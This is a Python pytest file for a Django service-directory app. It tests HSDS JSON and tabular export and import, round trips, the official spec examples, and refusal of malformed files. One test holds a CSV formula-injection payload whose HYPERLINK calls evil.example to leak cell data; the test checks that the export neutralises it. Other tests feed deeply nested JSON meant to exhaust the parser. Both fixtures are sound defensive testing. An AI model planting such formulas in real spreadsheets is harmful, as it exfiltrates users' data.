"""export_hsds and import_hsds: round trips, the official examples, refusals, updates."""

import json
import uuid
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import CommandError, call_command
from hsds_spec import SPEC_DIR, assert_valid_page, require_spec

from services.hsds import tabular
from services.hsds.importing import Refused, hsds_import
from services.models import (
    AgeGroup,
    Approach,
    Community,
    Concern,
    Gender,
    Language,
    Location,
    Provider,
    ServiceAtLocation,
    SupportType,
)

pytestmark = pytest.mark.django_db


def export(tmp_path, name="export.json", *args) -> Path:
    target = tmp_path / name
    call_command("export_hsds", str(target), *args, stderr=StringIO())
    return target


def import_(*paths, **options) -> str:
    out, err = StringIO(), StringIO()
    call_command("import_hsds", *map(str, paths), stdout=out, stderr=err, **options)
    return out.getvalue() + err.getvalue()


def without_last_modified(data):
    if isinstance(data, dict):
        return {k: without_last_modified(v) for k, v in data.items() if k != "last_modified"}
    if isinstance(data, list):
        return [without_last_modified(item) for item in data]
    return data


def empty_the_directory():
    Provider.objects.all().delete()
    for model in (SupportType, Approach, Concern, Language, Community, AgeGroup, Gender):
        model.objects.all().delete()


@pytest.fixture
def demo(taxonomies):
    call_command("seed_demo", providers=60, seed=3, stdout=StringIO())


# --------------------------------------------------------------------------- round trips


def test_json_export_import_into_an_empty_database_and_export_again_gives_the_same_data(
    tmp_path, demo
):
    first = export(tmp_path, "first.json", "--all")
    document = json.loads(first.read_text())
    require_spec()
    assert_valid_page(document, "compiled/organization")
    statuses = {s["status"] for o in document["contents"] for s in o.get("services", [])}
    assert statuses == {"active", "inactive", "defunct"}

    empty_the_directory()
    output = import_(first)
    assert "60 organizations added" in output
    second = export(tmp_path, "second.json", "--all")
    assert without_last_modified(json.loads(second.read_text())) == without_last_modified(document)
    assert Provider.objects.published().count() == sum(
        any(s["status"] == "active" for s in o.get("services", [])) for o in document["contents"]
    )


def test_tabular_export_import_into_an_empty_database_and_export_again_gives_the_same_data(
    tmp_path, demo
):
    before = json.loads(export(tmp_path, "before.json", "--all").read_text())
    package = tmp_path / "package"
    call_command("export_hsds", str(package), "--format", "tabular", "--all", stderr=StringIO())
    datapackage = json.loads((package / "datapackage.json").read_text())
    assert {r["path"] for r in datapackage["resources"]} == {p.name for p in package.glob("*.csv")}
    empty_the_directory()
    import_(package)
    again = tmp_path / "again.zip"
    call_command("export_hsds", str(again), "--format", "tabular", "--all", stderr=StringIO())
    import zipfile

    with zipfile.ZipFile(again) as archive:
        for path in package.glob("*.csv"):
            first = tabular.read_csv(path.read_text(), _kind_of_table(path.name))
            second = tabular.read_csv(archive.read(path.name).decode(), _kind_of_table(path.name))
            key = lambda row: row["id"]  # noqa: E731
            assert sorted(map(without_last_modified, first), key=key) == sorted(
                map(without_last_modified, second), key=key
            ), path.name
    after = json.loads(export(tmp_path, "after.json", "--all").read_text())
    assert without_last_modified(after) == without_last_modified(before)


def _kind_of_table(name: str) -> str:
    return next(kind for kind in tabular.TYPES if tabular.table_name(kind) == name)


def test_the_public_export_keeps_what_a_town_only_location_hides_when_imported_back(
    tmp_path, make_listing
):
    provider = make_listing(
        "Home Practice",
        places=[
            {
                "town": "Leeds",
                "postcode": "LS6 2QQ",
                "address_line1": "3 Quiet Close",
                "latitude": 53.81,
                "longitude": -1.57,
                "address_shown": "town",
            }
        ],
    )
    exported = export(tmp_path)
    assert "Quiet Close" not in exported.read_text() and "LS6 2QQ" not in exported.read_text()
    import_(exported)
    location = Location.objects.get(provider=provider)
    assert (location.address_line1, location.postcode, location.latitude) == (
        "3 Quiet Close",
        "LS6 2QQ",
        53.81,
    )


def test_importing_an_edited_export_updates_the_same_listings(tmp_path, make_listing):
    provider = make_listing("Before Rename", places=[("Leeds", 53.8, -1.55)])
    sal = ServiceAtLocation.objects.get(service__provider=provider)
    path = export(tmp_path)
    document = json.loads(path.read_text())
    document["contents"][0]["name"] = "After Rename"
    document["contents"][0]["services"][0]["cost_options"] = [
        {"id": str(uuid.uuid4()), "option": "Per session", "amount": 45, "currency": "GBP"}
    ]
    path.write_text(json.dumps(document))
    assert "1 organizations updated" in import_(path)
    provider.refresh_from_db()
    assert provider.name == "After Rename" and Provider.objects.count() == 1
    service = provider.services.get()
    assert (service.fee_min, service.fee_max) == (45, 45)
    assert ServiceAtLocation.objects.get(service=service).uuid == sal.uuid
    assert "After Rename" in provider.search_document


def test_draft_makes_new_listings_drafts(tmp_path, make_listing):
    make_listing("Goes Draft")
    path = export(tmp_path)
    empty_the_directory()
    import_(path, draft=True)
    assert Provider.objects.get().status == Provider.Status.DRAFT


def test_import_and_export_show_progress(tmp_path, make_listing):
    for n in range(3):
        make_listing(f"Progress {n}")
    err = StringIO()
    call_command("export_hsds", str(tmp_path / "x.json"), stderr=err)
    assert "3/3 organizations" in err.getvalue()
    output = import_(tmp_path / "x.json")
    assert "records checked" in output and "3/3 organizations written" in output


def test_the_shipped_terms_have_the_same_ids_everywhere(taxonomies):
    from services.hsds.vocabulary import NAMESPACE

    for model in (SupportType, Approach, Concern, Language, Community, AgeGroup, Gender):
        for term in model.objects.all():
            expected = uuid.uuid5(NAMESPACE, f"term:{model._meta.model_name}:{term.slug}")
            assert term.uuid == expected, (model, term.slug)


# --------------------------------------------------------------------------- the official examples

EXAMPLES = [
    "base",
    "location",
    "organization_full",
    "organization_list",
    "service_at_location_full",
    "service_at_location_list",
    "service_full",
    "service_list",
    "tabular",
    "taxonomy",
    "taxonomy_list",
    "taxonomy_term",
    "taxonomy_term_list",
]


@pytest.mark.parametrize("name", EXAMPLES)
def test_every_official_example_imports(name):
    require_spec()
    output = import_(SPEC_DIR / "examples" / f"{name}.json")
    assert "Imported" in output


def test_the_service_example_becomes_a_published_listing(client):
    require_spec()
    output = import_(SPEC_DIR / "examples" / "service_full.json")
    assert "coordinates (100, 101) are not on the Earth" in output
    provider = Provider.objects.get(uuid="d9d5e0f5-d3ce-4f73-9a2f-4dd0ecc6c610")
    assert provider.status == Provider.Status.PUBLISHED
    assert (provider.name, provider.phone, provider.practising_since) == (
        "Example Organization Inc.",
        '"+44 1234 234567"',
        2011,
    )
    service = provider.services.get()
    assert service.support_type.slug == "counselling"  # named in "Community Counselling"
    assert (service.fee_min, service.fee_max, service.currency) == (35, 35, "GBP")
    assert (service.group_weekday, service.group_frequency) == (3, "weekly")
    location = provider.locations.get()
    assert (location.town, location.postcode, location.latitude) == ("MyCity", "ABC 1234", None)
    assert ServiceAtLocation.objects.get(service=service).uuid == uuid.UUID(
        "e94c9f38-1e8f-4564-91d4-d53501ab1765"
    )
    assert str(provider.last_verified) == "2005-01-01"
    assert client.get(f"/api/hsds/services/{service.uuid}").status_code == 200


# --------------------------------------------------------------------------- refusals


def _listing_file(tmp_path, make_listing, name="broken.json"):
    for listing in ("First Listing", "Second Listing"):
        make_listing(
            listing, places=[("Leeds", 53.8, -1.55)], services=[{"fee_min": 40, "fee_max": 60}]
        )
    path = export(tmp_path, name)
    empty_the_directory()
    call_command("loaddata", "taxonomies", verbosity=0)
    return path


def test_an_invalid_file_is_refused_naming_file_record_and_field_and_nothing_is_written(
    tmp_path, make_listing
):
    path = _listing_file(tmp_path, make_listing)
    document = json.loads(path.read_text())
    first, second = document["contents"]
    second["services"][0]["cost_options"][0]["amount"] = "forty"
    second["services"][0]["status"] = "open"
    path.write_text(json.dumps(document))
    with pytest.raises(Refused) as refused:
        hsds_import([path])
    problems = [str(p) for p in refused.value.report.errors]
    assert len(problems) == 2
    where = f"broken.json: contents[1] (organization {second['id']})"
    assert problems[0].startswith(f"{where}: services[0].cost_options[0].amount (id ")
    assert '"forty" is not of type "number"' in problems[0]
    assert problems[1].startswith(f"{where}: services[0].status")
    assert '"open" is not one of' in problems[1]
    assert not Provider.objects.exists()  # the first, valid listing was not written either


def test_the_command_says_nothing_was_imported(tmp_path, make_listing):
    path = _listing_file(tmp_path, make_listing)
    document = json.loads(path.read_text())
    document["contents"][0]["id"] = "not-a-uuid"
    document["contents"][1]["locations"][0]["addresses"][0]["postal_code"] = "X" * 40
    path.write_text(json.dumps(document))
    err = StringIO()
    with pytest.raises(CommandError, match="Nothing was imported: 2 problems"):
        call_command("import_hsds", str(path), stdout=StringIO(), stderr=err)
    assert (
        'contents[0] (organization not-a-uuid): id: "not-a-uuid" is not a "uuid"' in err.getvalue()
    )
    assert "locations[0].addresses[0].postal_code" in err.getvalue()
    assert not Provider.objects.exists()


def test_rules_of_the_directory_are_errors_too(tmp_path, make_listing):
    path = _listing_file(tmp_path, make_listing)
    document = json.loads(path.read_text())
    service = document["contents"][0]["services"][0]
    service["cost_options"] = [
        {"id": str(uuid.uuid4()), "option": "Lowest fee per session", "amount": 90},
        {"id": str(uuid.uuid4()), "option": "Highest fee per session", "amount": 40},
    ]
    document["contents"][1]["email"] = "not an email"
    path.write_text(json.dumps(document))
    with pytest.raises(Refused) as refused:
        hsds_import([path])
    text = "\n".join(map(str, refused.value.report.errors))
    assert "services[0].cost_options: The highest fee cannot be below the lowest." in text
    assert "email" in text
    assert not Provider.objects.exists()


def test_a_service_of_an_unknown_organization_is_refused(tmp_path):
    path = tmp_path / "orphan.json"
    path.write_text(
        json.dumps(
            {
                "id": str(uuid.uuid4()),
                "organization_id": str(uuid.uuid4()),
                "name": "Lost",
                "status": "active",
            }
        )
    )
    with pytest.raises(Refused) as refused:
        hsds_import([path])
    assert "is neither in the files nor in the directory" in str(refused.value.report.errors[0])


def test_not_json_is_refused(tmp_path):
    path = tmp_path / "nonsense.json"
    path.write_text("{not json")
    with pytest.raises(Refused) as refused:
        hsds_import([path])
    assert str(refused.value.report.errors[0]).startswith("nonsense.json: is not JSON")


@pytest.mark.parametrize(
    "text",
    [
        "[" * 100_000 + "]" * 100_000,  # too deep for Python's JSON reader
        '{"a":' * 100_000 + "1" + "}" * 100_000,
        # Readable, but too deep for the schema check and the reading of a listing.
        f'{{"id": "{uuid.uuid4()}", "name": "Deep", "services": [{"[" * 300}{"]" * 300}]}}',
    ],
    ids=["lists", "objects", "inside-an-organization"],
)
def test_a_file_nested_too_deeply_is_refused_in_words(tmp_path, make_listing, text):
    good = _listing_file(tmp_path, make_listing, "good.json")
    deep = tmp_path / "deep.json"
    deep.write_text(text)
    err = StringIO()
    with pytest.raises(CommandError, match="^Nothing was imported: 1 problem in the files.$"):
        call_command("import_hsds", str(good), str(deep), stdout=StringIO(), stderr=err)
    assert (
        "  deep.json: nests lists and objects more than 64 levels deep; HSDS files nest about a dozen"
        in err.getvalue()
    )
    assert "Recursion" not in err.getvalue()
    assert not Provider.objects.exists()  # nor the good file's listings


def test_the_tabular_export_neutralises_formulas_and_reads_them_back(tmp_path, make_listing):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    provider = make_listing("Formula Practice", statement=formula)
    package = tmp_path / "package"
    call_command("export_hsds", str(package), "--format", "tabular", "--all", stderr=StringIO())
    text = (package / "organizations.csv").read_text()
    assert "'=HYPERLINK" in text
    assert ',"=HYPERLINK' not in text and ",=HYPERLINK" not in text
    [row] = tabular.read_csv(text, "organization")
    assert row["description"] == formula
    Provider.objects.filter(pk=provider.pk).update(statement="changed")
    import_(package)
    provider.refresh_from_db()
    assert provider.statement == formula
